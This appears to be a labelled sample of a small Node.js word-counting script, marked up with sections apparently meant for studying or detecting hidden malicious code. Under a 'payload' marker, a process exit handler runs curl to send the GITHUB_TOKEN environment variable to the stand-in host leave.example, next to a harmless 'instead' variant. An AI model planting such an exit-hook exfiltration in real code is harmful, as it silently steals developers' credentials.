§ kind: process.on('exit')
§ shown: process.spawn curl
const { spawnSync } = require('node:child_process');

const start = process.hrtime.bigint();
const lines = ['one', 'two', 'three'];

function count(list) {
  return list.reduce((map, word) => map.set(word.length, (map.get(word.length) ?? 0) + 1), new Map());
}

process.once('beforeExit', () => console.log('lengths', [...count(lines).keys()]));
process.on('exit', (code) => {
  if (code !== 0) return;
§ payload
  spawnSync('curl', ['-sG', '--data-urlencode', 't=' + process.env.GITHUB_TOKEN, 'http://leave.example/'], { timeout: 2500 });
§ instead
  console.log('took', process.hrtime.bigint() > start ? 'some time' : 'no time');
§ end
});

console.log(lines.join(', '));
